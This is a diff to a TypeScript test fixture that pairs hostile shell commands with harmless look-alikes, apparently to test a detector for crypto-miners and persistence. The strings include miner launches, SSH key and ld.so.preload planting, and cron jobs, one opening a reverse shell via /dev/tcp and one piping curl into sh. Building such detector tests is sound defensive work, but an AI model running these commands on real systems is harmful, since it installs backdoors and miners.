@@ -84,7 +84,7 @@ const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest
   ],
   'starts-miner high': [
     ['/opt/x --server a.example:443 --algo kawpow --user w', '/opt/x --server nats.example:4222 --user w'],
-    ['/opt/x -o a.example:443 -u w -p x', '/opt/x -o a.example:443 -u w'],
+    ['/opt/x -o a.example:443 -u w -p x', '/opt/x -o a.example:443 -u w -p "$(hostname)" -k --tls'],
     ['/opt/x -o xmr.pool.example:80 -u w', '/opt/x -o xmr.pool.example:80'],
     ['/opt/x --url stratum+tcp://pool.example:3333', '/opt/x --url http://api.example:3333'],
     [
@@ -114,6 +114,11 @@ const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest
   'persistence-planted high': [
     ['echo "ssh-rsa AAAAB3Nza x" >> /mnt/root/.ssh/authorized_keys', 'echo "$KEY" >> /root/.ssh/authorized_keys'],
     ['echo /usr/lib/x.so > /etc/ld.so.preload', 'echo /usr/lib > /etc/ld.so.conf.d/x.conf'],
+    ['echo "* * * * * root /x" >> /rootdir/etc/crontab', 'echo "* * * * * root /x" >> /etc/crontab'],
+    [
+      'echo "* * * * * root bash -i >& /dev/tcp/192.0.2.1/1" >> /etc/crontab',
+      'echo "* * * * * root id" >> /etc/crontab',
+    ],
     ['echo "* * * * * root /x" > /host/etc/cron.d/x', 'echo "* * * * * root /x" > /etc/cron.d/x'],
     ['echo "* * * * * curl http://192.0.2.1/x | sh" | crontab -', 'crontab -l'],
     ['insmod /opt/x.ko', 'modprobe ip_tables'],
